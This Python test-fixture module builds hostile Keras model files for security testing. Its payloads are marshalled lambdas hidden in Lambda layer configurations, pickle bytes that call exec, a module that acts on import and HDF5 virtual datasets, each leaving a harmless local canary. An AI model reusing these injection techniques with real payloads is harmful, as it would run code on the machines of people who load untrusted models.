"""Files that mean harm, made by hand: what each would do if loading ran anything, and what tells that it did.

The harm is a canary: a file that is written, an address on this machine that is asked, an environment variable that is
read and written down. The files are made with h5py and plain data, not by the library that is tried.
"""

import base64
import json
import marshal
from collections.abc import Callable
from pathlib import Path
from typing import Any, NamedTuple

import h5py
import numpy as np

SECRET = "KERASCN_CANARY"  # an environment variable of the child process
SECONDS = 5  # that a canary waits for an answer


class Canary:
    """What one attack would leave behind.

    Args:
        folder: A folder of its own.
        address: The beginning of addresses that the test listens at, such as 'http://127.0.0.1:1234'.
        name: A name without blanks, which is the end of the address.
    """

    def __init__(self, folder: Path, address: str, name: str) -> None:
        self.folder, self.name = folder, name
        self.marker, self.url = folder / "marker", f"{address}/{name}"
        self.fifo = folder / "elsewhere"  # made where an attack leads to another file; whoever opens it is seen
        self.module = f"canary_of_{name}"
        self.writes = f"__import__('pathlib').Path({str(self.marker)!r}).write_text"

    def program(self, parameters: str = "x, *more", result: str = "x") -> Any:
        """The code of a lambda that writes the file, asks the address and reads the environment."""
        asks = f"__import__('urllib.request').request.urlopen({self.url!r}, timeout={SECONDS}).close()"
        reads = f"__import__('os').environ[{SECRET!r}]"
        return eval(f"lambda {parameters}: ({self.writes}({reads}), {asks}, {result})[-1]").__code__

    def code(self, parameters: str = "x, *more", result: str = "x") -> list[Any]:
        """The code as Keras writes it into a configuration: text, defaults, closure."""
        return [base64.encodebytes(marshal.dumps(self.program(parameters, result))).decode(), None, None]

    def importable(self) -> str:
        """The name of a module that can be imported, and does harm at once; so does all that is in it."""
        harm = f"{self.writes}('a module was imported')"
        (self.folder / f"{self.module}.py").write_text(
            f"{harm}\ndef touch(*args, **kwargs):\n    {harm}\n"
            f"class Thing:\n    def __init__(self, *args, **kwargs):\n        {harm}\n"
            f"    @classmethod\n    def from_config(cls, config):\n        {harm}\n"
        )
        return self.module

    def pickled(self, protocol: int = 2) -> bytes:
        """A pickle that writes the file when it is read."""
        program = f"{self.writes}('a pickle was read')"
        if protocol == 0:
            return f"c__builtin__\nexec\n(V{program}\ntR.".encode()
        return b"\x80\x02c__builtin__\nexec\nX" + len(program).to_bytes(4, "little") + program.encode() + b"\x85R."


class Attack(NamedTuple):
    """One crafted thing to load.

    Args:
        craft: A function of a canary that gives what is loaded: a path, a text or a configuration.
        load: How: 'model' and 'weights' for files, 'given' for arrays of one, 'json', 'yaml', 'config', 'layer' for the
            rest.
        key: The sentence by which it is refused; ``None`` if it is loaded, and does no harm.
        published: The name under which an attack of this kind on Keras was published.
        real: Whether it does its harm with ``safe_mode=False``.
        why: Where it does not: why.
    """

    craft: Callable[[Canary], Any]
    load: str
    key: str | None
    published: str = ""
    real: bool = False
    why: str = ""


# --------------------------------------------------------------------------- architectures


def lambda_layer(canary, name="lambda_1", **changed):
    """The configuration of a Lambda whose function is a program."""
    config = {"name": name, "trainable": True, "batch_input_shape": [None, 4], "dtype": "float32"}
    config |= {"function": canary.code(), "function_type": "lambda", "output_shape": None}
    config |= {"output_shape_type": "raw", "arguments": {}, **changed}
    return {"class_name": "Lambda", "config": config}


def harmless(**changed):
    """A Lambda with a function of the tests' own, to which one part is added."""
    return {"function": "same", "function_type": "function", **changed}


def row(*layers):
    """A model of layers in a row."""
    return {"class_name": "Sequential", "config": list(layers), "keras_version": "2.1.5", "backend": "tensorflow"}


def dense(**changed):
    """A Dense, with something else in some of its places."""
    config = {"name": "dense_1", "units": 2, "activation": "linear", "batch_input_shape": [None, 4]}
    return {"class_name": "Dense", "config": config | changed}


def lstm(**changed):
    """An LSTM, with something else in some of its places."""
    return {"class_name": "LSTM", "config": {"name": "lstm_1", "units": 2, "return_sequences": True} | changed}


def wrapped(kind, layer, shape=(None, 3, 4), **more):
    """A layer in another one."""
    config = {"name": f"{kind.lower()}_1", "layer": layer, "batch_input_shape": list(shape), **more}
    return {"class_name": kind, "config": config}


def graph(*layers):
    """A model with an input and layers behind each other, as a graph."""
    start = {"class_name": "InputLayer", "config": {"name": "start", "batch_input_shape": [None, 4]}}
    entries, before = [{**start, "name": "start", "inbound_nodes": []}], "start"
    for layer in layers:
        name = layer.get("name") or layer["config"]["name"]
        entries.append({**layer, "name": name, "inbound_nodes": [[[before, 0, 0, {}]]]})
        before = name
    config = {"name": "model_1", "layers": entries, "input_layers": [["start", 0, 0]]}
    return {"class_name": "Model", "config": config | {"output_layers": [[before, 0, 0]]}}


def merge(**changed):
    """The Merge of Keras 1, of two layers."""
    parts = [dense(name="left"), dense(name="right")]
    config = {"name": "merge_1", "mode": "sum", "mode_type": "raw", "concat_axis": -1, "dot_axes": -1}
    config |= {"output_shape": None, "output_shape_type": "raw", "output_mask": None, "output_mask_type": "raw"}
    config |= {"arguments": {}, "layers": parts, **changed}
    return {"class_name": "Sequential", "config": [{"class_name": "Merge", "config": config}], "keras_version": "1.2.2"}


# --------------------------------------------------------------------------- files


def h5(canary, config, training=None, **attributes):
    """An HDF5 file with a model and no weights: its layers have none."""
    path = canary.folder / "model.h5"
    layers = config["config"] if isinstance(config["config"], list) else config["config"]["layers"]
    with h5py.File(path, "w") as file:
        file.attrs["model_config"] = json.dumps(config).encode()
        file.attrs["keras_version"], file.attrs["backend"] = b"2.1.5", b"tensorflow"
        if training is not None:
            file.attrs["training_config"] = json.dumps(training).encode()
        group = file.create_group("model_weights")
        group.attrs["layer_names"] = [layer["config"]["name"].encode() for layer in layers]
        for layer in layers:
            group.create_group(layer["config"]["name"]).attrs["weight_names"] = np.array([], "S1")
        file.attrs.update(attributes)
    return path


def of_dense(canary, change):
    """An HDF5 file with a model of one Dense, of which one thing is changed."""
    path = h5(canary, row(dense()))
    with h5py.File(path, "r+") as file:
        group = file["model_weights/dense_1"]
        group.attrs["weight_names"] = [b"kernel:0", b"bias:0"]
        group["kernel:0"], group["bias:0"] = np.zeros((4, 2), "f4"), np.zeros(2, "f4")
        change(file, group)
    return path


def trained(loss="mse", metrics=(), optimizer=None, **more):
    """A configuration of training."""
    optimizer = optimizer or {"class_name": "SGD", "config": {}}
    return {"optimizer_config": optimizer, "loss": loss, "metrics": list(metrics), **more}


def write_opaque(place, name, canary, tag, data, is_attribute):
    """Bytes of a type that no program knows, but that says of itself what NumPy should take it for."""
    kind = h5py.h5t.create(h5py.h5t.OPAQUE, len(data))
    kind.set_tag(tag)
    space = h5py.h5s.create_simple((1,))
    values = np.frombuffer(data, f"V{len(data)}")
    if is_attribute:
        if name in place.attrs:
            del place.attrs[name]
        h5py.h5a.create(place.id, name.encode(), kind, space).write(values, mtype=kind)
    else:
        del place[name]
        written = h5py.h5d.create(place.id, name.encode(), kind, space)
        written.write(h5py.h5s.ALL, h5py.h5s.ALL, values, mtype=kind)


def growing_view(group, name, path):
    """A view of another file as long as that one is: whoever asks for its shape opens the other file."""
    if name in group:
        del group[name]
    created = h5py.h5p.create(h5py.h5p.DATASET_CREATE)
    here = h5py.h5s.create_simple((0, 2), (h5py.h5s.UNLIMITED, 2))
    there = h5py.h5s.create_simple((0, 2), (h5py.h5s.UNLIMITED, 2))
    for space in (here, there):
        space.select_hyperslab((0, 0), (1, 1), (1, 1), (h5py.h5s.UNLIMITED, 2))
    created.set_virtual(here, str(path).encode(), b"x", there)
    h5py.h5d.create(group.id, name.encode(), h5py.h5t.IEEE_F32LE, here, created)
